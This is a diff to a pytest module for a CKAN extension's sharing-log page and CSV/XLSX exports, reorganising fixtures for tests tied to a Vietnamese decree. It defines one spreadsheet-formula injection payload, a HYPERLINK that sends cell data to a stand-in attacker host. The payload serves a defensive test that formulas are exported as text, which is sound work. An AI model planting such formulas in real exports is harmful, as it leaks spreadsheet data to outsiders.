@@ -20,23 +20,49 @@ import pytest
 from ckanext.daknong import tabular
 from ckanext.daknong.sharing_log import entries, listing
 from ckanext.daknong.tests import translations
-from ckanext.daknong.tests.sharing_log.test_listing import add_readers, draft, make_reads
+from ckanext.daknong.tests.sharing_log.test_listing import (
+    Stage,
+    draft,
+    entries_since_now,
+    make_reads,
+)
 
-pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")
+pytestmark = pytest.mark.usefixtures("with_plugins")
 
 TEMPLATE = Path(__file__).resolve().parents[4] / "templates" / "sharing_log" / "index.html"
 SOURCES = [Path(listing.__file__), Path(listing.__file__).with_name("views.py")]
 FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Bấm vào đây")'
 
 
-@pytest.fixture
-def readers(world, ckan_config, monkeypatch):
-    return add_readers(world, ckan_config, monkeypatch)
+@pytest.fixture(scope="module")
+def stage(reset_db, reset_index, migrate_db_for):
+    """The world, its readers and real reads, built once for the tests that only read them
+    (test_listing.Stage); a test that appends entries asks for ``fresh_world``."""
+    builders = {"reads": lambda app, world: make_reads(app, world, entries_since_now())}
+    shared = Stage(reset_db, reset_index, migrate_db_for, builders)
+    yield shared
+    shared.close()
+
+
+@pytest.fixture(scope="module")
+def app(stage):
+    """One test client for the module (built once, with the plugins loaded)."""
+    return stage.app
 
 
 @pytest.fixture
-def reads(app, readers, new_entries):
-    return make_reads(app, readers, new_entries)
+def fresh_world():
+    """Asked for by a test that writes: its world is built for it alone (see ``Stage``)."""
+
+
+@pytest.fixture
+def readers(request, stage, with_plugins, monkeypatch):
+    return stage.enter(request, monkeypatch)
+
+
+@pytest.fixture
+def reads(readers, stage):
+    return stage.parts["reads"]
 
 
 def _rows_shown(body: str) -> set[int]:
@@ -130,6 +156,7 @@ class TestPageScope:
 
 
 class TestPageContent:
+    @pytest.mark.usefixtures("fresh_world")
     def test_entries_are_shown_in_vietnam_time_newest_first(self, app, readers):
         """NĐ 47 Art. 45.2: times are stored in UTC and shown in Asia/Ho_Chi_Minh."""
         at = dt.datetime(2026, 3, 14, 17, 30, tzinfo=dt.timezone.utc)
@@ -153,6 +180,7 @@ class TestPageContent:
         assert "/sharing-log.xlsx?channel=web" in body
         assert '<option value="web" selected>' in body
 
+    @pytest.mark.usefixtures("fresh_world")
     def test_paging_50_a_page(self, app, readers):
         """NĐ 47 Art. 45: 50 entries a page, newest first, with links to the next page."""
         rows = entries.append([draft(readers, purpose=f"Lần {n}") for n in range(51)])
@@ -167,6 +195,7 @@ class TestPageContent:
         assert "Page 1 of 2" in first and "page=2" in first
         assert "Page 2 of 2" in second and "page=1" in second
 
+    @pytest.mark.usefixtures("fresh_world")
     def test_a_page_number_that_is_not_a_number_shows_the_first_page(self, app, readers):
         """NĐ 47 Art. 45: ?page=abc is the first page, not a server error."""
         (row,) = entries.append([draft(readers)])
@@ -253,6 +282,7 @@ class TestCsvExport:
         assert response.status_code == 400
         assert "Use a date such as 2026-01-31" in response.get_data(as_text=True)
 
+    @pytest.mark.usefixtures("fresh_world")
     def test_formulas_from_requesters_are_exported_as_text(self, app, readers, new_entries):
         """NĐ 47 Art. 45: a user agent chosen by the requester cannot run in the office's
         spreadsheet (CSV/formula injection)."""
@@ -292,6 +322,7 @@ class TestXlsxExport:
         assert reads["own_read"]["id"] not in ids  # web, and not the consumer's
         assert {row[_column("channel")] for row in rows[1:]} == {"api"}
 
+    @pytest.mark.usefixtures("fresh_world")
     def test_xlsx_keeps_vietnamese_text_and_vietnam_time(self, app, readers):
         """NĐ 47 Art. 45.2: purposes in Vietnamese and times in Vietnam time survive."""
         at = dt.datetime(2026, 3, 14, 17, 0, tzinfo=dt.timezone.utc)
